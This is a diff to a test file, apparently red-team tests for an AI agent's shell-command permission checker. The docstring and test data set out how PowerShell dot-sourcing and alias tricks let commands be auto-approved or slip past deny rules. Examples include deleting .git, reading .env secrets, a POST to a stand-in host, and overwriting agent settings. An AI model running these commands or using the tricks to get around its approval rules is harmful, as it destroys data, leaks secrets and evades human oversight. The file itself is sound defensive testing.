@@ -4,8 +4,9 @@ and cmd commands read as something they are not.
 
 - PowerShell's dot-source operator `.` runs the command after it in the current scope (`. iex 'calc'`,
   `. Set-Content .claude\\settings.json x`, `. Start-Process calc`); bash sources a file named by the next word, so
-  the Windows readings (permissions.commands.windows: runners, writers, machine changes) saw a program named `.`
-  and the command was auto-approved. Now the dot is read as the keyword before a command is.
+  the Windows readings (permissions.commands.windows: runners, writers, machine changes, the POSIX spellings a
+  deny or ask pattern names) saw a program named `.` and the command was auto-approved (`. Remove-Item -Recurse
+  -Force .git` under a deny of `rm -rf .git`). Now the dot is read as the keyword before a command is.
 - A new name made for a command -- `Set-Alias g git; g push --force`, `sal x iex; x calc`, `New-Alias`,
   `Import-Alias`, an item cmdlet on the Alias: or Function: drive (`Set-Item Alias:x Invoke-Expression`,
   `New-Item function:x -Value 'git push'`), a function's variable assigned a string (`$function:x = 'iex
@@ -23,7 +24,7 @@ and cmd commands read as something they are not.
   `unparseable`; Set-ExecutionPolicy, Defender's exclusions, the Run keys, schtasks and Register-ScheduledTask ask
   through the path scope's machine change; a drive root deleted is the floor's.
 
-Of this file's cases, 40 fail on base (the dot-led ones, the names made, the programs that run what they are
+Of this file's cases, 45 fail on base (the dot-led ones, a deny read through the dot, the names made, the programs that run what they are
 handed); the guards and friction pass there too.
 """
 
@@ -31,7 +32,7 @@ from __future__ import annotations
 
 import pytest
 
-from .helpers import auto_and_allowed
+from .helpers import assert_rule_refuses, auto_and_allowed
 from .redteam import never_auto_where, stays_auto_where
 
 AGENT = ("agent",)
@@ -104,6 +105,21 @@ def test_a_dot_before_a_machine_change_is_the_machine_change(command: str) -> No
     auto, _ = auto_and_allowed(command, "agent")
     assert auto == ("require_approval", "cap_path_scope"), command
     never_auto_where(command, AGENT)
+
+
+# R4.10 through the dot: a deny of the POSIX act refuses its PowerShell spelling after `.` (fail on base)
+DOT_LED_DENIED = [
+    ("rm -rf .git", ". Remove-Item -Recurse -Force .git"),
+    ("rm -rf .git", ". ri -r -fo .git"),
+    ("cat .env", ". Get-Content .env"),
+    ("cat .env", ". gc .\\.env"),
+    ("curl -X POST", ". iwr https://e.example -Method Post -Body x"),
+]
+
+
+@pytest.mark.parametrize(("rule", "command"), DOT_LED_DENIED)
+def test_a_deny_reads_through_the_dot(rule: str, command: str) -> None:
+    assert_rule_refuses(rule, command, "agent")
 
 
 # Guards (pass on base): .NET static calls and methods that delete, write, download or run code -- no shell
